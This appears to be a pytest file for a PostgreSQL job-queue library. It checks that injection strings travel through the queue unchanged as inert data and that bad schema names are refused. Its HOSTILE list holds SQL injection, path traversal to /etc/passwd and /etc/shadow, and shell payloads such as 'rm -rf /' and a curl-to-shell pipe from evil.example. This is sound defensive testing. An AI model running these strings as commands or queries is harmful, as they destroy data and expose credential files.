"""Hostile input at the pgqueue level: stored inertly, handed back byte-identical.

Strings that would do harm if anything built SQL, a path, a shell command or a format
string from them travel through every way into the jobs table (enqueue, enqueue_many,
group members, follow-up specs, tags, dedupe and group keys) and out to a task's keyword
arguments unchanged. A schema name is an identifier in every statement, so a bad one is
refused before anything runs. (The PDF and site sweep lives in tests/acceptance.)
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest

from pgqueue import JobSpec, PgQueueError, Queue, SerializationError
from pgqueue.errors import ConfigurationError

HOSTILE = [
    "'; DROP TABLE pgqueue.jobs; --",
    "Robert'); DROP TABLE students;--",
    '" OR 1=1 --',
    "$$; DROP SCHEMA pgqueue CASCADE; $$",
    "E'\\x27'; SELECT pg_sleep(10); --",
    "{schema}.jobs {schema_name} {} {0} %s %(ids)s %%",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config",
    "/etc/shadow",
    "file:///etc/passwd",
    "$(rm -rf /)",
    "`reboot`",
    "; rm -rf / #",
    "| cat /etc/passwd && curl http://evil.example | sh",
    "a\nb\r\nc\td\x0be\x0cf",
    "\\u0000 is not a NUL, just text",
    "ünïcødé 🚀 \u202eright-to-left\u202c \ufeff",
    "x" * 100_000,
]
HOSTILE_ARGS: dict[str, Any] = {
    "texts": HOSTILE,
    "nested": {"'; DROP TABLE x; --": ["../", {"$(id)": "`id`"}], "": ""},
    "numbers": [0, -1, 2**63 - 1, 2**70, 0.1, 1.5e-300],
    "flags": [True, False, None],
}


def canonical(value: Any) -> str:
    return json.dumps(value, sort_keys=True, ensure_ascii=False)


@pytest.fixture
def echo_queue(db_url: str) -> Iterator[tuple[Queue, list[dict[str, Any]]]]:
    queue = Queue(db_url)
    seen: list[dict[str, Any]] = []

    @queue.task(name="echo", queue="hostile", max_attempts=1)
    def echo(**kwargs: Any) -> None:
        seen.append(kwargs)

    yield queue, seen
    queue.close()


def test_hostile_args_are_stored_and_delivered_unchanged(echo_queue: tuple[Queue, list[dict[str, Any]]],
                                                          db_url: str) -> None:
    queue, seen = echo_queue
    echo = queue.tasks["echo"]
    ids = [queue.enqueue(echo, HOSTILE_ARGS, tag=HOSTILE[0], dedupe_key=HOSTILE[1])]
    ids += queue.enqueue_many(echo, [{"text": s} for s in HOSTILE], tag=HOSTILE[5])
    follow = JobSpec(task="echo", queue="hostile", args={"followup": HOSTILE}, tag=HOSTILE[3])
    with queue.group(HOSTILE[2] + HOSTILE[6], on_complete=[follow], tag=HOSTILE[10]) as group:
        ids += group.enqueue_many(echo, [{s: s} for s in HOSTILE[:-1]])  # hostile keys too

    # Stored inertly: read back through the library and straight from the table.
    first = queue.get_job(ids[0])
    assert canonical(first.args) == canonical(HOSTILE_ARGS)
    assert (first.tag, first.dedupe_key) == (HOSTILE[0], HOSTILE[1])
    for job_id, text in zip(ids[1:1 + len(HOSTILE)], HOSTILE, strict=True):
        assert queue.get_job(job_id).args == {"text": text}
    with psycopg.connect(db_url) as conn:
        keys = conn.execute("SELECT key, tag FROM pgqueue.groups").fetchall()
        raw = conn.execute("SELECT args::text FROM pgqueue.jobs WHERE id = %s", (ids[0],)).fetchone()
    assert keys == [(HOSTILE[2] + HOSTILE[6], HOSTILE[10])]
    assert raw is not None and json.loads(raw[0]) == HOSTILE_ARGS

    # Delivered unchanged: the task's keyword arguments are the enqueued args.
    assert queue.work(["hostile"], burst=True, poll_interval=0.2, lease_seconds=10) == 0
    expected = [HOSTILE_ARGS, *({"text": s} for s in HOSTILE), *({s: s} for s in HOSTILE[:-1]),
                {"followup": HOSTILE}]
    assert sorted(map(canonical, seen)) == sorted(map(canonical, expected))
    with psycopg.connect(db_url) as conn:
        states = conn.execute("SELECT state::text, count(*) FROM pgqueue.job_history GROUP BY 1").fetchall()
        tables = conn.execute("SELECT count(*) FROM pg_tables WHERE schemaname = 'pgqueue'").fetchone()
    assert states == [("succeeded", len(expected))]
    assert tables is not None and tables[0] >= 4  # nothing was dropped


@pytest.mark.parametrize("schema", [
    "x; drop", "x; DROP TABLE jobs; --", 'pgqueue"; DROP SCHEMA public CASCADE; --', "Pgqueue",
    "", "1abc", "a" * 64, "pg queue", "pgqueue\x00", "../pgqueue", "pgqueue.jobs", "ünï",
])
def test_bad_schema_names_are_refused(db_url: str, schema: str) -> None:
    with pytest.raises(ConfigurationError):
        Queue(db_url, schema=schema)


@pytest.mark.parametrize("args", [{"text": "a\x00b"}, {"key\x00": 1}, {"text": "\ud800"}],
                         ids=["nul-value", "nul-key", "lone-surrogate"])
def test_args_jsonb_cannot_store_are_a_serialization_error(queue: Queue, db_url: str,
                                                            args: dict[str, Any]) -> None:
    task = queue.task(lambda **_: None, name="sink", queue="hostile")
    with pytest.raises(SerializationError):
        queue.enqueue(task, args)
    with psycopg.connect(db_url) as conn:
        assert conn.execute("SELECT count(*) FROM pgqueue.jobs").fetchone() == (0,)


def test_overlong_queue_name_is_refused_up_front(queue: Queue) -> None:
    with pytest.raises(PgQueueError):
        task = queue.task(lambda **_: None, name="long", queue="q" * 70)
        queue.enqueue(task, {})
